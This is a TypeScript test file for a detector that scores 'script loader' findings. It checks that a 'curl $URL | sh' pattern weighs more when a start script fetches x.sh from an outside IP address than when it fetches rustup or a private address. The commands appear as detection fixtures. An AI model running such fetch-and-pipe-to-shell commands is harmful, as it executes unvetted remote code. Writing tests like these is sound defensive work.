import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { DetectedFinding } from '../detector.ts';
import { completed, wantsCommand } from './completed.ts';
import { kinds } from './kinds.ts';

const loader: DetectedFinding = {
  ...kinds.scriptLoader,
  confidence: 0.2,
  whenStarted: 0.3,
  subject: 'text',
  offset: 0,
  length: 1,
  excerpt: 'curl $URL | sh',
};

const fetched = (...urls: string[]) => urls.map((url) => ({ words: ['curl', '-s', url], by: '/start.sh' }));

test('a loader weighs by the worst address that its variables give', () => {
  for (const [urls, whenStarted] of [
    [['http://198.51.100.7/x.sh'], 0.88],
    [['https://sh.rustup.rs', 'http://198.51.100.7/x.sh'], 0.88],
    [['https://sh.rustup.rs'], 0.3],
    [['http://10.0.0.5/x.sh'], 0.3],
    [['$STILL_OPEN'], 0.3],
    [[], 0.3],
  ] as const) {
    assert.equal(completed(loader, fetched(...urls)).whenStarted, whenStarted, urls.join());
  }
});

test('what is no loader, and a command that downloads nothing, stay as they are', () => {
  const other = { ...loader, ...kinds.tunnel };
  assert.equal(completed(other, fetched('http://198.51.100.7/x.sh')), other);
  assert.equal(completed(loader, [{ words: ['echo', 'http://198.51.100.7'], by: '/start.sh' }]), loader);
  assert.ok(wantsCommand(['wget', 'http://198.51.100.7/x.sh']));
  assert.ok(!wantsCommand(['nginx', '-c', 'http://198.51.100.7/x.sh']));
});
